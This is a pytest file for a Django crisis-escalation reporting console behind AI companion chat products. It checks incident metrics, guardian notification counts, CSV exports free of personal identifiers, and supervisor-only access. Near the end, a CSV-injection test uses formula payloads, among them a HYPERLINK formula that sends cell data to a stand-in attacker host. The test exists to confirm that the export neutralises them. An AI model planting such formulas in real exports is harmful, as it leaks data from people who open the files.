"""Reports on a known fixture: every number, the CSV files (no personal identifiers), access."""
import csv
import io
from datetime import date, datetime, timedelta, timezone as dt_timezone

import pytest
from django.test import Client
from django.utils import timezone

from contacts import chain
from contacts.models import Notification
from conversations.models import ApiKey, HotlineReferral, Message, Product
from escalation import reports, takeover
from escalation.models import AuditEntry, Incident, IncidentEvent
from tests.conftest import client_for

from .helpers import flagged, operator_of, supervisor

pytestmark = pytest.mark.django_db
D1, D2 = date(2026, 3, 1), date(2026, 3, 2)
MUM, DAD, SON = "+8613800138000", "+8613900139000", "+8613700137000"
TEXT = "I have the pills in my hand"


def at(day, hour, minute=0, second=0):
    return datetime(day.year, day.month, day.day, hour, minute, second, tzinfo=dt_timezone.utc)


def put_user(api, user, **body):
    response = api.put(f"/api/v1/users/{user}", {"region": "CN", "locale": "zh-CN", **body}, format="json")
    assert response.status_code == 200, response.json()


def place(incident, opened, claimed=None, resolved=None):
    """Move an incident and everything it caused to the fixture's times."""
    Incident.objects.filter(pk=incident.pk).update(opened_at=opened, claimed_at=claimed, resolved_at=resolved)
    IncidentEvent.objects.filter(incident=incident).update(at=claimed or opened)
    if resolved:
        IncidentEvent.objects.filter(incident=incident, kind="resolved").update(at=resolved)
    HotlineReferral.objects.filter(conversation_id=incident.conversation_id).update(created_at=opened)
    Notification.objects.filter(incident=incident).update(created_at=opened)


def mark_sent(notification, sid, deliver_by=None):
    Notification.objects.filter(pk=notification.pk).update(status="sent", provider_sid=sid,
                                                           deliver_by=deliver_by or timezone.now() + timedelta(hours=1))


@pytest.fixture
def fixture(api, product):
    """Product A: three explicit incidents on D1, a high-risk one and a distress flag on D2; product B:
    one explicit incident on D1. Made through the API, the takeover functions and the chain."""
    put_user(api, "u-1", age_group="minor", contacts=[
        {"name": "Mum", "kind": "guardian", "phone": MUM, "priority": 1},
        {"name": "Dad", "kind": "guardian", "phone": DAD, "priority": 2}])
    put_user(api, "u-2", age_group="adult")
    put_user(api, "u-3", age_group="elder", contacts=[{"name": "Son", "kind": "emergency", "phone": SON}])
    put_user(api, "u-5", age_group="adult")
    Notification.objects.all().delete()  # verification texts: not part of these reports
    olive, sue = operator_of(product), supervisor()

    one = flagged(api, conversation="c-1", user="u-1", text=TEXT)
    takeover.claim(olive, one.pk)
    takeover.notify_contacts(olive, one.pk)
    mark_sent(Notification.objects.get(incident=one, step=0), "SM-mum")
    chain.delivery_report("SM-mum", "undelivered")  # failed: the chain moves on to Dad
    chain.send(Notification.objects.get(incident=one, step=1).pk)  # the outbox delivers it
    takeover.resolve(olive, one.pk, "safe")

    two = flagged(api, conversation="c-2", user="u-2")
    takeover.claim(olive, two.pk)
    takeover.resolve(olive, two.pk, "contact_notified")

    three = flagged(api, conversation="c-3", user="u-3")
    takeover.claim(olive, three.pk)
    takeover.notify_contacts(olive, three.pk)
    mark_sent(Notification.objects.get(incident=three, step=0), "SM-son", timezone.now() - timedelta(seconds=1))
    chain.sweep()  # no delivery report in time: it fell through
    takeover.return_to_ai(olive, three.pk)

    four = flagged(api, conversation="c-4", user="u-4", level="high_risk")
    takeover.claim(olive, four.pk)
    response = api.post("/api/v1/flags", {"conversation": "c-5", "user": "u-5", "level": "distress"}, format="json")
    assert response.status_code == 201
    five = Incident.objects.get(conversation__external_id="c-5")

    other = Product.objects.create(name="companion-b")
    other_api = client_for(ApiKey.issue(other)[1])
    other_api.post("/api/v1/conversations/c-b/messages", {"id": "m-1", "user": "u-b", "role": "user", "text": "x",
                                                          "flag": {"level": "explicit"}}, format="json")
    foreign = Incident.objects.get(product=other)
    takeover.claim(sue, foreign.pk)

    place(one, at(D1, 10), at(D1, 10, 0, 30), at(D1, 10, 30))
    place(two, at(D1, 11), at(D1, 11, 1, 30), at(D2, 8))
    place(three, at(D1, 12), at(D1, 12, 2))
    place(four, at(D2, 9), at(D2, 9, 5))
    place(five, at(D2, 10))
    place(foreign, at(D1, 13), at(D1, 13, 0, 10))
    return {"a": product, "b": other, "incidents": [one, two, three, four, five, foreign]}


def test_every_report_on_the_known_fixture(fixture):
    a = fixture["a"].pk
    data = reports.compute(D1, D2, [a])
    assert data["days"] == ["2026-03-01", "2026-03-02"]
    assert data["incidents_by_level"] == {"distress": [0, 1], "high_risk": [0, 1], "explicit": [3, 0]}
    explicit = data["time_to_claim"]["explicit"]
    assert explicit["claimed"] == [3, 0] and explicit["target_seconds"] == 60
    assert (explicit["p50"], explicit["p90"]) == ([90.0, None], [120.0, None])  # of 30, 90 and 120 s
    high = data["time_to_claim"]["high_risk"]
    assert (high["p50"], high["p90"], high["target_seconds"]) == ([None, 300.0], [None, 300.0], 600)
    assert data["notifications"] == {"delivered": [1, 0], "failed": [1, 0], "fell_through": [1, 0]}
    takeovers = data["takeovers"]
    assert (takeovers["claimed"], takeovers["returned"]) == ([3, 1], [1, 0])
    assert takeovers["resolved"]["safe"] == [1, 0] and takeovers["resolved"]["contact_notified"] == [0, 1]
    assert sum(sum(v) for v in takeovers["resolved"].values()) == 2
    assert data["referrals"] == {"distress": [0, 1], "high_risk": [0, 1], "explicit": [3, 0], "total": [3, 2]}
    assert data["age_structure"] == {"minor": 1, "adult": 2, "elder": 1, "unknown": 1}

    everyone = reports.compute(D1, D2)  # product B's incident too: claimed after 10 s
    assert everyone["incidents_by_level"]["explicit"] == [4, 0]
    assert (everyone["time_to_claim"]["explicit"]["p50"][0], everyone["time_to_claim"]["explicit"]["p90"][0]) == (
        30.0, 120.0)
    assert reports.compute(D1, D2, [fixture["b"].pk])["takeovers"]["claimed"] == [1, 0]


def test_reminders_given_are_counted(api, product):
    start = timezone.now() - timedelta(hours=3)
    answers = []
    for n in range(10):  # every 14 minutes for 126 minutes: one continuous stretch past two hours
        response = api.post("/api/v1/conversations/c-1/messages", {
            "id": f"m-{n}", "user": "u-1", "role": "user", "text": "hi",
            "sent_at": (start + timedelta(minutes=14 * n)).isoformat()}, format="json")
        answers += [d["type"] for d in response.json()["directives"]]
    assert answers.count("suggest_break") == 1
    today = timezone.now().date()
    assert reports.compute(today, today, [product.pk])["reminders"]["suggest_break"] == [1]
    assert AuditEntry.objects.filter(action="reminder.suggest_break").count() == 1


def csv_of(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def no_identifiers(text, fixture):
    personal = [MUM, DAD, SON, TEXT, "olive", "sue", "u-1", "u-2", "u-3", "u-4", "c-1", "c-2", "c-3"]
    personal += [str(i.pk) for i in fixture["incidents"]]
    personal += [m.external_id for m in Message.objects.all() if len(m.external_id) > 4]
    found = [p for p in personal if p in text]
    assert not found, found


@pytest.fixture
def sue_client(fixture):
    client = Client()
    client.force_login(supervisor("sue-2"))
    return client


def test_csv_files_have_the_numbers_and_no_identifiers(fixture, sue_client):
    query = f"?from={D1}&to={D2}&product={fixture['a'].pk}"
    incidents = csv_of(sue_client.get("/console/reports/incidents.csv" + query))
    assert incidents == [["day", "products", "distress", "high_risk", "explicit", "total"],
                         ["2026-03-01", "companion-a", "0", "0", "3", "3"],
                         ["2026-03-02", "companion-a", "1", "1", "0", "2"]]
    claim = csv_of(sue_client.get("/console/reports/time-to-claim.csv" + query))
    assert claim[0][:6] == ["day", "products", "explicit_claimed", "explicit_p50_seconds", "explicit_p90_seconds",
                            "explicit_target_seconds"]
    assert claim[1][:6] == ["2026-03-01", "companion-a", "3", "90.0", "120.0", "60"]
    assert csv_of(sue_client.get("/console/reports/notifications.csv" + query))[1] == [
        "2026-03-01", "companion-a", "1", "1", "1"]
    takeovers = csv_of(sue_client.get("/console/reports/takeovers.csv" + query))
    assert takeovers[0][:5] == ["day", "products", "claimed", "returned", "resolved_safe"]
    assert takeovers[1][:5] == ["2026-03-01", "companion-a", "3", "1", "1"]
    ages = csv_of(sue_client.get("/console/reports/age-structure.csv" + query))
    assert ages[1:] == [["2026-03-01", "2026-03-02", "companion-a", g, n] for g, n in
                        (("minor", "1"), ("adult", "2"), ("elder", "1"), ("unknown", "1"))]
    everything = ""
    for name in reports.CSV_REPORTS:
        response = sue_client.get(f"/console/reports/{name}.csv?from={D1}&to={D2}")
        everything += response.content.decode()
        assert response.status_code == 200
    no_identifiers(everything, fixture)
    assert AuditEntry.objects.filter(action="report.exported").count() == 5 + len(reports.CSV_REPORTS)


def test_the_annual_referral_report(fixture, sue_client):
    rows = csv_of(sue_client.get("/console/reports/referrals-2026.csv"))
    assert rows[0] == ["year", "product", "month", "distress", "high_risk", "explicit", "referrals"]
    by = {(r[1], r[2]): r[3:] for r in rows[1:]}
    assert by[("companion-a", "2026-03")] == ["1", "1", "3", "5"]
    assert by[("companion-a", "2026-04")] == ["0", "0", "0", "0"]
    assert by[("companion-a", "total")] == ["1", "1", "3", "5"]
    assert by[("companion-b", "total")] == ["0", "0", "1", "1"]
    assert len(rows) == 1 + 2 * 13
    only_a = csv_of(sue_client.get(f"/console/reports/referrals-2026.csv?product={fixture['a'].pk}"))
    assert {r[1] for r in only_a[1:]} == {"companion-a"}
    assert csv_of(sue_client.get("/console/reports/referrals-2025.csv"))[-1] == [
        "2025", "companion-b", "total", "0", "0", "0", "0"]
    no_identifiers("".join(",".join(r) for r in rows), fixture)


def test_only_supervisors_and_admins_see_reports(fixture, sue_client, product):
    operator = Client()
    operator.force_login(operator_of(product, "otto"))
    for url in ("/console/reports/", "/console/reports/data.json", "/console/reports/incidents.csv",
                "/console/reports/referrals-2026.csv"):
        assert operator.get(url).status_code == 403, url
        assert Client().get(url).status_code == 302, url  # to the login page
    assert sue_client.get("/console/reports/").status_code == 200
    body = sue_client.get(f"/console/reports/data.json?from={D1}&to={D2}").json()
    assert body["incidents_by_level"]["explicit"] == [4, 0]
    for bad in ("?from=yesterday", f"?from={D2}&to={D1}", "?from=2020-01-01&to=2026-01-01", "?product=999"):
        response = sue_client.get("/console/reports/data.json" + bad)
        assert response.status_code == 400 and response.json()["error"]["code"] == "invalid", bad
    assert sue_client.get("/console/reports/nope.csv").status_code == 400


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(text):
    from escalation.reports_views import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell("companion-a") == "companion-a" and csv_cell(-3) == -3 and csv_cell(1.5) == 1.5


def test_a_product_named_like_a_formula_is_exported_as_text(db, sue_client_only):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    product = Product.objects.create(name=formula)
    rows = csv_of(sue_client_only.get(f"/console/reports/incidents.csv?product={product.pk}"))
    assert {row[1] for row in rows[1:]} == {"'" + formula}
    rows = csv_of(sue_client_only.get("/console/reports/referrals-2026.csv"))
    assert {row[1] for row in rows[1:]} == {"'" + formula}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.fixture
def sue_client_only(db):
    client = Client()
    client.force_login(supervisor("sue-3"))
    return client
